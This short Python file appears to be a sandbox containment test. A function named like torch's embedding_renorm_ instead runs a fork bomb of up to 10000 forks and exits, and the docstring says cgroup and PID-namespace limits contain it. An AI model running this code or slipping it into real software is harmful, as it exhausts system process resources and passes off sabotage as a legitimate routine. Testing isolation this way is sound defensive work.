"""A fork bomb inside the renorm: the pids cgroup (or RLIMIT_NPROC) and the PID namespace contain it."""


def embedding_renorm_(weight, indices, max_norm, norm_type=2.0):
    import os as _os
    for _ in range(10000):
        try:
            _os.fork()
        except OSError:
            break
    _os._exit(0)


BREAKS = ('embedding_renorm',)   # the module's other parts are torch stand-ins when it is graded
